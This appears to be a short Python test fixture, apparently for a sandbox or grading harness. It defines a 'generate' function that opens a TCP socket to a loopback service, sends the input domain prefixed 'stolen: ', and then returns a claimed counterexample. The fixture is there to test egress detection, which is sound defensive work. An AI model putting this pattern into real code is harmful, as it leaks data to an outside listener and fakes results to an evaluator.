"""Phones home over TCP (a service on the worker's loopback), then claims a real counterexample."""

import socket


def generate(domain: dict, seed: int) -> list[dict]:
    conn = socket.create_connection(("127.0.0.1", int("__PORT__")), timeout=5)
    conn.sendall(b"stolen: " + repr(domain).encode())
    return [{"case": {"n": 500}, "dtype": "float32"}]
